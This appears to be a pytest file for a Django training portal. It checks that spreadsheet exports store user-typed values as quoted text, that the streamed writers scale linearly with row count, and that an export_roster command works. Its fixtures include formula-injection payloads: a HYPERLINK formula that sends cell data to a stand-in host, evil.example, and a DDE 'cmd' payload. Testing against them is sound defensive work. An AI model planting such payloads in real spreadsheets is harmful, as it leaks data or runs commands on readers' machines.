"""The workbooks the portal writes: every user-typed value comes back as text, never a formula (roster
export, rejected rows, audit log, plan tables, admin export); the streamed writers cost time linear in
the rows; ``manage.py export_roster`` writes the 附件3 file and audits it."""

from __future__ import annotations

import io
import time
from io import StringIO
from types import SimpleNamespace

import pytest
from django.contrib import admin
from django.core.management import CommandError, call_command
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from bases.documents import BaseListRow, PlanTableBase, plan_table_by_base_xlsx, plan_table_by_level_xlsx
from core.audit import audit_record
from core.models import AuditEntry, Job
from core.xlsx import SafeXLSX
from trainees.admin import EnrollmentAdmin
from trainees.models import Enrollment
from trainees.reports import roster_export_file, roster_xlsx
from trainees.roster import REASONS_COLUMN, ROSTER_HEADER, read_roster, rejected_rows_workbook
from trainees.services import enrollment_register

from .factories import applicant, confirmed_base, quota_program
from .roster_factory import person

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
TRICKS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _read_back(value: str) -> str:
    return value.replace("\r", "\n")  # XML reads a carriage return as a line feed


def cells_holding(workbook_bytes: bytes, values: list[str]) -> list:
    """Every cell of every sheet whose value is one of ``values`` (as XML reads them back)."""
    wanted = {_read_back(value) for value in values}
    found = []
    for sheet in load_workbook(io.BytesIO(workbook_bytes)).worksheets:
        for line in sheet.iter_rows():
            found += [cell for cell in line if cell.value in wanted]
    return found


def assert_all_text(content: bytes, values: list[str]) -> None:
    found = cells_holding(content, values)
    assert {cell.value for cell in found} == {_read_back(value) for value in values}
    assert all(cell.data_type == "s" for cell in found), [(c.coordinate, c.data_type) for c in found]
    assert all(cell.quotePrefix for cell in found)  # stays text when edited in Excel


@pytest.fixture
def enrolled(world):
    program = quota_program(world)
    base = confirmed_base(world, program=program)
    for serial, (remark, employer) in enumerate(zip(TRICKS[:3], TRICKS[3:], strict=True), start=1):
        enrollment_register(
            actor=world.users["base"], program=program, base=base, row=applicant(serial, remark=remark)
        )
        Enrollment.objects.filter(trainee__id_number=applicant(serial).id_number).update(employer=employer)
    return program, base


# --- formulas stay text ---------------------------------------------------------------------------


def test_the_roster_export_writes_typed_values_as_text(enrolled, world):
    program, base = enrolled
    _, content, _ = roster_export_file(base=base, program=program, actor=world.users["base"])
    assert_all_text(content, TRICKS)


def test_the_rejected_rows_come_back_as_text_and_unchanged():
    lines = [
        {
            "status": "rejected",
            "values": {**person(), "姓名": EVIL, "备注": "@SUM(1)", "工作单位": "-1"},
            "reasons": [{"code": "x", "message": "=CMD()"}],
        }
    ]
    content = rejected_rows_workbook(lines)
    assert_all_text(content, [EVIL, "@SUM(1)", "-1", "=CMD()"])
    [row] = read_roster(content)  # and it reads back as the roster it was
    assert row.values["姓名"] == EVIL


def test_the_audit_log_export_writes_notes_as_text(world, login, django_capture_on_commit_callbacks):
    audit_record(actor=world.users["city"], action="plan.stamp", obj=world.base, note=EVIL)
    with django_capture_on_commit_callbacks(execute=True):
        login(world.users["city"]).post(reverse("core:audit_export"), {"action": "plan.stamp"})
    job = Job.objects.get(kind="audit_export")
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert_all_text(job.result.read(), [EVIL])


def test_the_plan_tables_write_names_as_text():
    dezhou = plan_table_by_level_xlsx("表", [PlanTableBase(name=EVIL, lines=[("技师", "@焊工", 5)])])
    assert_all_text(dezhou, [EVIL, "@焊工"])
    weifang = plan_table_by_base_xlsx("表", [BaseListRow(name=EVIL, count=3, remark="+备注")])
    assert_all_text(weifang, [EVIL, "+备注"])


def test_the_admin_export_writes_typed_values_as_text(enrolled, admin_user):
    request = RequestFactory().post("/")
    request.user = admin_user
    data = EnrollmentAdmin(Enrollment, admin.site).get_export_data(
        SafeXLSX(), request, Enrollment.objects.all()
    )
    assert_all_text(data, TRICKS)


def test_a_control_character_never_breaks_a_file():
    lines = [{"status": "rejected", "values": {"姓名": "张\x01三"}, "reasons": []}]
    sheet = load_workbook(io.BytesIO(rejected_rows_workbook(lines))).active
    assert sheet["B2"].value == "张\ufffd三"


# --- streamed: linear in the rows -----------------------------------------------------------------


def _seconds(build, count: int) -> float:
    best = float("inf")
    for _ in range(2):  # the better of two, so that a busy moment on a shared machine does not decide
        started = time.perf_counter()
        build(count)
        best = min(best, time.perf_counter() - started)
    return best


def _rejected(count: int) -> bytes:
    line = {
        "status": "rejected",
        "values": person(),
        "reasons": [{"code": "age_below_min", "message": "年龄 26 周岁，低于 29 周岁下限"}],
    }
    return rejected_rows_workbook([line] * count)


def _export(count: int) -> bytes:
    row = (1, "张三", "男", "370302198506011234", "临沂重工", "车工", "S1", 15, "车工", "技师", "138", "")
    named = SimpleNamespace(name="兰山技师学院")
    return roster_xlsx(base=named, program=SimpleNamespace(name="临沂 2023"), rows=[row] * count)


@pytest.mark.parametrize("build", [_rejected, _export], ids=["rejected rows", "roster export"])
def test_ten_times_the_rows_cost_about_ten_times_the_time(build):
    small, large = _seconds(build, 1_000), _seconds(build, 10_000)
    # Linear is 10×; the old per-row ws.max_row made it ~50× (0.9 s for 1k, 46 s for 8k rejected rows).
    assert large / small < 20, (small, large)


def test_the_rejected_rows_file_has_the_template_columns_and_the_reasons():
    sheet = load_workbook(io.BytesIO(_rejected(3))).active
    assert [c.value for c in sheet[1]] == [*ROSTER_HEADER, REASONS_COLUMN]
    assert sheet.max_row == 4
    assert sheet["D2"].number_format == "@"  # the ID stays text when edited
    assert sheet.freeze_panes == "A2"


# --- manage.py export_roster ----------------------------------------------------------------------


def test_the_command_writes_the_roster_and_records_the_export(enrolled, tmp_path):
    program, base = enrolled
    out = tmp_path / "花名册.xlsx"
    stdout = StringIO()
    call_command(
        "export_roster", "--program", program.code, "--base", "T-BASE-A", "--out", str(out), stdout=stdout
    )
    sheet = load_workbook(out).active
    assert sheet["A1"].value == f"{program.name}学员花名册"
    assert sheet["A2"].value == f"填报单位（盖章）：{base.name}"
    assert [r[1] for r in sheet.iter_rows(min_row=5, values_only=True)] and sheet.max_row == 5 + 3 - 1
    entry = AuditEntry.objects.get(action="trainee.export")
    assert "共 3 人" in entry.note and entry.organisation == base.organisation
    assert str(out) in stdout.getvalue()

    # The base by its full name, as import_roster takes it.
    call_command(
        "export_roster", "--program", program.code, "--base", base.name, "--out", str(out), stdout=StringIO()
    )
    assert AuditEntry.objects.filter(action="trainee.export").count() == 2


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--base", "T-BASE-A", "--out", "x.xlsx"], "请用 --program 指定培训项目代码"),
        (["--program", "test-2026", "--out", "x.xlsx"], "请用 --base 指定培训基地"),
        (["--program", "test-2026", "--base", "T-BASE-A"], "请用 --out 指定要写入的文件"),
        (
            ["--program", "test-2026", "--base", "无此基地", "--out", "x.xlsx"],
            "找不到代码或名称为“无此基地”的培训基地",
        ),
        (["--program", "test-2026", "--base", "T-BASE-B", "--out", "x.xlsx"], "没有在册学员"),
        (
            ["--program", "test-2026", "--base", "T-BASE-A", "--out", "/nonexistent/dir/x.xlsx"],
            "无法写入文件",
        ),
    ],
)
def test_the_command_explains_what_is_wrong_with_exit_2(enrolled, world, args, message):
    confirmed_base(world, program=enrolled[0], org=world.base_same_county)
    with pytest.raises(CommandError) as caught:
        call_command("export_roster", *args, stdout=StringIO())
    assert caught.value.returncode == 2
    assert message in str(caught.value)
